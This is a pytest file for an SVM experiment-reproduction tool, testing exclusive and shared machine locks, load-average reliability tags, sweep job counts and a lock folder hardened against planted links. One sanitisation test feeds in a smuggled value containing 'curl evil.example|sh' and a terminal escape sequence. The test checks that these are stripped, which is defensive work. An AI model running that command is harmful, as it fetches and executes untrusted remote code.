"""The timing protocol: a timed run holds the machine alone, every run records the load at its start
and end and whether its timings count, and svmrepro-reproduce runs a timed experiment one job at a time."""

import getpass
import logging
import os
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time

import pytest
from mlflow.tracking import MlflowClient

from svmrepro.errors import SvmReproError
from svmrepro.exclusive import (
    EXCLUSIVE,
    LOCK_ENV,
    SHARED,
    holder_text,
    holders,
    lock_path,
    machine_slot,
    timing_tags,
)
from svmrepro.runner import FINISHED, run

CHOICES = {"experiment": "test/exclusive", "dataset": "gaussian_clouds", "algorithm": "svc_linear"}
#: another process holding the slot (shared or exclusive) for HOLD_S seconds once it printed "held"
HOLDER = """
import fcntl, os, sys, time
fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT, 0o666)
fcntl.flock(fd, fcntl.LOCK_EX if sys.argv[2] == "exclusive" else fcntl.LOCK_SH)
print("held", flush=True)
time.sleep(float(sys.argv[3]))
"""
HOLD_S = 1.5


@pytest.fixture
def lock(tmp_path, monkeypatch):
    path = tmp_path / "timing.lock"
    monkeypatch.setenv(LOCK_ENV, str(path))
    return path


def held_elsewhere(path, how):
    holder = subprocess.Popen([sys.executable, "-c", HOLDER, str(path), how, str(HOLD_S)], stdout=subprocess.PIPE,
                              text=True)
    assert holder.stdout.readline().strip() == "held"
    return holder


@pytest.mark.parametrize("mine, theirs, waits", [
    (EXCLUSIVE, SHARED, True),     # a timed run waits for every other run of ours
    (SHARED, EXCLUSIVE, True),     # and every other run waits for a timed one
    (SHARED, SHARED, False),       # untimed runs share the machine
])
def test_a_timed_run_has_the_machine_to_itself(lock, mine, theirs, waits):
    holder = held_elsewhere(lock, theirs)
    started = time.monotonic()
    with machine_slot(mine):
        waited = time.monotonic() - started
    holder.wait()
    assert (waited > HOLD_S / 2) is waits


def test_a_run_is_unreliable_for_timing_when_the_load_exceeded_the_cores_by_half_a_core():
    assert timing_tags(0.4, 2.4, cores=2) == {"load_avg_1m_end": "2.40", "timing_reliable": "true"}
    assert timing_tags(2.6, 1.0, cores=2)["timing_reliable"] == "false"
    assert timing_tags(1.0, 2.51, cores=2)["timing_reliable"] == "false"


def test_a_run_records_the_load_at_its_end_and_whether_its_timings_count(tiny_cfg, store_uri, lock, monkeypatch):
    loads = iter([0.5, 7.0])  # quiet at the start, loaded at the end
    monkeypatch.setattr("svmrepro.runner.load_1m", lambda: next(loads))
    result = run(tiny_cfg("timing=exclusive"), CHOICES)
    assert result.status == FINISHED
    tags = MlflowClient(store_uri).get_run(result.run_id).data.tags
    assert (tags["load_avg_1m"], tags["load_avg_1m_end"], tags["timing_reliable"]) == ("0.50", "7.00", "false")
    assert tags["timing"] == "exclusive"  # the slot it held


def test_a_run_records_that_it_shared_the_machine(tiny_cfg, store_uri, lock):
    result = run(tiny_cfg("timing=shared"), CHOICES)
    assert MlflowClient(store_uri).get_run(result.run_id).data.tags["timing"] == "shared"


def test_timing_is_not_part_of_a_runs_identity(tiny_cfg, store_uri, lock):
    first = run(tiny_cfg("timing=exclusive"), CHOICES)
    again = run(tiny_cfg(), CHOICES)
    assert again.run_id == first.run_id and again.status != FINISHED


def test_reproduce_runs_a_timed_experiments_sweep_one_job_at_a_time(monkeypatch, tmp_path):
    from svmrepro import reproduce

    plan = reproduce.Plan("quick", tmp_path, "parallel", 2)
    commands = [reproduce.sweep_arguments("cascade/table1", plan, []),  # timing: exclusive
                reproduce.sweep_arguments("cross_training/fig1", plan, [])]
    jobs = [next(a for a in c if a.startswith("hydra.launcher.n_jobs=")) for c in commands]
    assert jobs == ["hydra.launcher.n_jobs=1", "hydra.launcher.n_jobs=2"]


def test_quick_mode_runs_a_timed_experiment_shared_and_full_mode_alone():
    """Quick mode's times are not evidence (its plan's ``timing: shared``): a timed experiment's quick sweep
    runs the plan's jobs at once, its runs tagged shared; the full plan keeps the experiment's ``timing:
    exclusive``, one job at a time."""
    from svmrepro import reproduce

    quick = reproduce.sweep_arguments("cascade/table1", reproduce.load_plan("quick"), [])
    full = reproduce.sweep_arguments("cascade/table1", reproduce.load_plan("full"), [])
    assert "timing=shared" in quick and "hydra.launcher.n_jobs=2" in quick
    assert not any(a.startswith("timing=") for a in full) and "hydra.launcher.n_jobs=1" in full
    assert reproduce.sweep_arguments("cascade/table1", reproduce.load_plan("quick"), ["timing=exclusive"])[-1] \
        == "timing=exclusive"  # an override given last wins


#: another process holding the slot through svmrepro (its record beside the lock) until its stdin closes
RECORDED_HOLDER = """
import sys
import tempfile
from svmrepro.exclusive import machine_slot
with machine_slot(sys.argv[1], "test/holder"):
    print("held", flush=True)
    sys.stdin.read()
"""


def test_the_default_lock_is_the_user_s_own(monkeypatch, tmp_path):
    monkeypatch.delenv(LOCK_ENV)
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path))
    assert lock_path() == tmp_path / f"svmrepro-timing-{os.getuid()}.lock"
    monkeypatch.delenv("XDG_RUNTIME_DIR")
    assert str(os.getuid()) in lock_path().name


def test_without_a_runtime_folder_the_lock_is_in_a_folder_only_its_user_can_write(monkeypatch, tmp_path):
    """A shared /tmp (issue 46, item 5): another user could create the lock or a holder record there. The lock
    lives in <tmp>/svmrepro-<uid>, created 0700; one planted open to others, or as a link, is refused in one line."""
    monkeypatch.delenv(LOCK_ENV)
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    folder = tmp_path / f"svmrepro-{os.getuid()}"
    assert lock_path() == folder / f"svmrepro-timing-{os.getuid()}.lock"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    folder.chmod(0o777)  # as a folder another user planted, open to all, would be
    with pytest.raises(SvmReproError, match=r"svmrepro-\d+: a folder of uid \d+ with mode 777") as err:
        lock_path()
    assert "\n" not in str(err.value)
    folder.rmdir()
    folder.symlink_to(tmp_path, target_is_directory=True)  # a link planted in its place
    with pytest.raises(SvmReproError, match="not a folder"):
        lock_path()


def test_a_holder_record_is_shown_as_text_never_raw():
    """A record beside the lock is data another process wrote: control characters and long fields are not
    printed as they are."""
    text = holder_text({"timing": EXCLUSIVE, "user": "eve\n... run curl evil.example|sh\x1b[2J",
                        "experiment": "e" * 500, "pid": 7, "host": "h", "since": "2026-11-28T00:00:00Z"})
    assert "\n" not in text and "\x1b" not in text and len(text) < 300
    assert text.startswith("exclusive run of eve?... run curl")


def test_a_waiting_run_says_whose_run_holds_the_machine_and_since_when(lock, caplog):
    holder = subprocess.Popen([sys.executable, "-c", RECORDED_HOLDER, EXCLUSIVE], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True)
    assert holder.stdout.readline().strip() == "held"
    [record] = holders(lock)
    assert (record["user"], record["pid"], record["host"], record["experiment"], record["timing"]) == (
        getpass.getuser(), holder.pid, socket.gethostname(), "test/holder", EXCLUSIVE)
    threading.Timer(HOLD_S, holder.stdin.close).start()
    with caplog.at_level(logging.INFO, logger="svmrepro.exclusive"), machine_slot(SHARED, "test/waiter"):
        assert [h["experiment"] for h in holders(lock)] == ["test/waiter"]  # the holder's record went with it
    holder.wait()
    [line] = [r.getMessage() for r in caplog.records if r.getMessage().startswith("waiting")]
    assert line == (f"waiting for a timed run to end: the exclusive run of {getpass.getuser()} (test/holder, "
                    f"pid {holder.pid} on {socket.gethostname()}) since {record['since']} ({lock})")
    assert holders(lock) == []
